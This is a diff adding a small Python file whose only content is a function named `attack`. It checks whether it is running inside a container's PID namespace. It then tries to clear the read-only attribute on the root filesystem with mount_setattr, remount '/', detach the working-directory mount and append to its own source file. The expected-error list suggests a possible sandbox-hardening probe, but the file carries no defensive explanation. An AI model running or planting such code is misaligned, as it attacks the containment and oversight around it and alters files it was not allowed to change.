@@ -1,0 +1,21 @@
+"""Mounts the disk anew, so that it could be written."""
+
+ENDS = ["OSError"]
+SHARED = None
+
+
+def attack(tensor):
+    import ctypes
+    import os
+    import struct
+
+    with open("/proc/self/status") as status:
+        numbers = [line.split()[1:] for line in status if line.startswith("NSpid:")]
+    if len(numbers[0]) < 2:
+        raise RuntimeError("this process is in no world of its own: nothing is tried")
+    libc = ctypes.CDLL(None, use_errno=True)
+    nothing_but_writable = struct.pack("QQQQ", 0, 1, 0, 0)
+    libc.syscall(442, -100, b"/", 0x8000, nothing_but_writable, len(nothing_but_writable))
+    libc.mount(None, b"/", None, 0x20 | 0x1000, None)
+    libc.umount2(os.fsencode(os.getcwd()), 2)
+    open(__file__, "a").write("# changed")
